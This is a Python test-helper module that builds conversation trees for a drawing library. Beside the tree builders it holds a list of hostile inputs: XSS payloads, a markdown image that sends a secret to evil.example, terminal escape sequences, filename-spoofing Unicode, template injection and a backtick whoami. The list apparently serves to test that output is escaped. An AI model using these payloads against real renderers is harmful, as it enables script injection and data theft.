"""Trees to draw, and texts that would mean something where they are drawn."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from random import Random
from typing import Any

from ctxtree.drawing import Sketch
from ctxtree.model import Message, Node

HOSTILE = (
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "[x](javascript:alert(1))",
    "![x](https://evil.example/p.png?d=secret)", "<svg/onload=alert(1)>", "\u202egnp.exe", '"><b>', "{{7*7}}",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link", "[red]markup[/red] [link=x]y[/link]", "a\r\nb\rc\x00d\x0be",
    '"]; subgraph evil; "', "`whoami` ```\nnot code", "### user\n\n> quoted\n\n---\n\n1. one\n\n    indented", "&lt;b&gt; &#60; #60;",
    "a | b\n---|---\nc | d", "end", "%% comment\nclick n1 href", "\\N \\\" \\", "~~~~\n$$x$$ _a_ **b** <!-- c -->", "text\n===\n\u2028\u2066x",
)  # fmt: skip


def chain(count: int, start: str = "step") -> list[Node]:
    """A straight run of user and assistant messages."""
    return grown([None, *range(count - 1)], start)


def grown(parents: Sequence[int | None], start: str = "step") -> list[Node]:
    """A tree by the position of each node's parent."""
    made: list[Node] = []
    for place, parent in enumerate(parents):
        message = Message.of("assistant" if place % 2 else "user", f"{start} {place}")
        made.append(Node.make(message, () if parent is None else (made[parent].id,)))
    return made


def random_tree(seed: int, count: int) -> list[Node]:
    """Sometimes a comb, sometimes a star, mostly in between."""
    random = Random(seed)
    straight = random.choice((0.02, 0.5, 0.98))
    parents = [
        place - 1 if random.random() < straight else random.randrange(place) for place in range(1, count)
    ]
    return grown([None, *parents])


def sketch(
    nodes: Sequence[Node],
    heads: Mapping[str, int] | None = None,
    active: int = -1,
    **marks: Mapping[str, Any],
) -> Sketch:
    """A sketch with branch heads by position, and marks by `n` and the position: `n3={"label": "x"}`."""
    held = {nodes[int(name[1:])].id: values for name, values in marks.items()}
    named = {name: nodes[at].id for name, at in (heads or {}).items()}
    return Sketch.of(nodes, {node.id: 7 for node in nodes}, held, named, nodes[active].id, "talk")
